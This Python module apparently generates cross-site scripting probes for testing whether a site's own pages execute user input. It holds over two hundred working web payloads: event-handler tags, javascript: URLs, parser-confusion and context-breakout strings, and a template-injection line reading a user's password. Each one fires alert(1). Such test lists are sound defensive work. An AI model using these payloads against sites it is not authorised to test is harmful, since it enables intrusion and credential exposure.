"""What people put into a name or a message to see whether a page runs it.

Each one, where it runs, says so: it opens a dialog, which no page of ours does.
"""

RUN = "alert(1)"
HANDLERS = (
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "ontoggle",
    "onmouseover",
    "onwheel",
)
ELEMENTS = (
    "<img src=x {on}={run}>",
    "<svg {on}={run}>",
    "<details open {on}={run}>x</details>",
    "<input autofocus {on}={run}>",
    "<body {on}={run}>",
    "<video src=x {on}={run}></video>",
    "<iframe src=x {on}={run}></iframe>",
    "<a href=x {on}={run}>x</a>",
    "<form {on}={run}><button>x</button></form>",
    "<select autofocus {on}={run}></select>",
)
WHOLE = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script src=data:text/javascript,{run}></script>",
    "<svg><script>{run}</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={run}>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src=javascript:parent.{run}></iframe>",
    "<a href=javascript:{run}>x</a>",
    "<a href='java\tscript:{run}'>x</a>",
    "<form action=javascript:{run}><button>x</button></form>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<link rel=stylesheet href=javascript:{run}>",
    "<style>@import 'javascript:{run}';</style>",
    "<base href=javascript:{run}//>",
    "<div style=background:url(javascript:{run})>x</div>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<template><script>{run}</script></template>",
    "<button formaction=javascript:{run}>x</button>",
    "<img src=`javascript:{run}`>",
    "<!--><img src=x onerror={run}>-->",
    "<![CDATA[<script>{run}</script>]]>",
    "<x hx-on:load={run} hx-trigger=load hx-get=/x>x</x>",
    "<div hx-get='javascript:{run}' hx-trigger=load>x</div>",
    "{{% load static %}}{{{{ request.user.password }}}}<script>{run}</script>",
    "${{{run}}}<script>{run}</script>",
    "javascript:{run}",
    "data:text/html,<script>{run}</script>",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;img src=x onerror={run}&#62;",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
)
# How it breaks out of where it stands: an attribute, a title, a comment, a script's string.
ENDS = ("", '"', "'", "</title>", "-->", "</textarea>", "</script>", '">', "'>", "]]>")


def payloads() -> list[str]:
    """More than two hundred, each another."""
    made = [form.format(on=on, run=RUN) for form in ELEMENTS for on in HANDLERS]
    made += [form.format(run=RUN) for form in WHOLE]
    made += [end + made[number % len(made)] for end in ENDS[1:] for number in range(0, 100, 9)]
    return list(dict.fromkeys(made))
